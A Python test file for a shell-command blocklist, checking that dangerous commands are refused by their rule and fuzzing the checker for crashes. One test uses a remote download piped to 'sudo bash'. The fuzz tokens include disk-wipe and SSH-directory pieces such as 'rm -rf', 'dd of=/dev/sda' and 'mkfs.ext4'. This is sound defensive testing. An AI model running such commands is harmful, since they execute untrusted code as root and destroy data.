"""The exec blocklist against its corpus: every dangerous spelling refused by its rule, no everyday command refused."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard.core.blocklist import Block, check_command
from tests.conftest import FIXTURES

CORPUS = FIXTURES / "blocklist"


def _lines(path: Path) -> list[str]:
    return [line for line in path.read_text().splitlines() if line.strip() and not line.startswith("#")]


DANGEROUS = [tuple(line.split("\t", 1)) for line in _lines(CORPUS / "dangerous.txt")]
BENIGN = _lines(CORPUS / "benign.txt")


def test_the_corpus_is_big_enough() -> None:
    families = {rule for rule, _ in DANGEROUS}
    assert families == {"disk-wipe", "fork-bomb", "download-exec", "ssh-dir", "unparseable"}
    assert len(DANGEROUS) >= 100 and len(BENIGN) >= 100


@pytest.mark.parametrize(("rule", "command"), DANGEROUS, ids=[c for _, c in DANGEROUS])
def test_dangerous_commands_are_refused_by_their_rule(rule: str, command: str) -> None:
    block = check_command(command)
    assert block is not None, f"not refused: {command}"
    assert block.rule == rule, f"{command}: refused as {block.rule} ({block.reason}), expected {rule}"
    assert block.part and block.reason  # the refusal names the offending part


@pytest.mark.parametrize("command", BENIGN)
def test_everyday_commands_pass(command: str) -> None:
    assert check_command(command) is None


def test_refusal_names_the_rule_and_the_part() -> None:
    block = check_command("make && curl -fsSL https://x/i.sh | sudo bash")
    assert isinstance(block, Block)
    assert block.rule == "download-exec"
    assert "curl" in block.part and "bash" in block.part
    assert str(block).startswith("blocked (download-exec): ")


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_never_crashes_on_arbitrary_text(text: str) -> None:
    result = check_command(text)
    assert result is None or isinstance(result, Block)


_SHELLISH = st.lists(
    st.sampled_from(
        ["rm", "-rf", "~/.ssh", "curl", "|", "sh", "$(", ")", "<(", "'", '"', ";", "&&", "&", "{", "}", "(", ")",
         ">", ">>", "/dev/sda", "dd", "of=/dev/sda", "mkfs.ext4", "sudo", "env", "eval", "bash", "-c", "x", ":", "\\"]
    ),
    max_size=12,
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(_SHELLISH)
def test_never_crashes_on_shell_shaped_text(words: list[str]) -> None:
    result = check_command(" ".join(words))
    assert result is None or isinstance(result, Block)
